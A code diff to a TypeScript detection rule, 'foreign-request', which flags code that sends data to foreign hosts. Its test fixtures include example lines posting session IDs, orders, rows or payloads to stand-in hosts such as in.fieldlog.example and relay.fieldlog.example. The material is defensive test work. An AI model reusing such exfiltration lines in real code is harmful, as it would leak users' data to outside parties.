@@ -1,12 +1,15 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
-import { type Block, blocks, requestsIn } from '../../signals/blocks.ts'
+import { type Block, blocks, BODY_BEHIND, requestsIn } from '../../signals/blocks.ts'
+import { regex } from '../../patterns/verbose.ts'
 import { hostOf, isFaceless, isForeign } from '../../signals/hosts.ts'
 
 /** Other requests or links of the text that go to the same host make it part of the subject. */
 const NAMED_MAX = 1
 
-const VALUE = /\b(?:params|json|data|body|files)\s?[=:]\s?(?:[{(["'`]|\w)|[?&]\w{1,30}=/
+const VALUE = regex`
+  \b(?:params|json|data|body|files)\s?[=:]\s?(?:[{(["'\x60]|\w)|[?&]\w{1,30}=|${BODY_BEHIND}
+`
 
 export default defineRule({
   id: 'foreign-request',
@@ -25,11 +28,13 @@ export default defineRule({
     fires: [
       '```python\nimport requests; requests.get("https://in.fieldlog.example/", params={"key": session_id})\n```\n',
       '```js\nfetch("https://in.fieldlog.example/t", { method: "POST", body: JSON.stringify(order) })\n```\n',
+      '```python\nfrom urllib import request as r\nr.urlopen(r.Request("https://in.fieldlog.net/c", rows), timeout=4)\n```\n',
       '```python\nrequests.post("http://relay.fieldlog.example/c", json=payload)\n```\n',
     ],
     quiet: [
       '```python\nrequests.post("https://api.example.com/items", json=item)\n```\n',
       '```js\nawait fetch("/api/items", { method: "POST", body })\n```\n',
+      '```python\nfrom urllib import request as r\nr.urlopen("https://api.fieldlog.net/items", timeout=4)\n```\n',
       '```python\nrequests.get("https://api.fieldlog.example/items")\n```\n',
     ],
   },
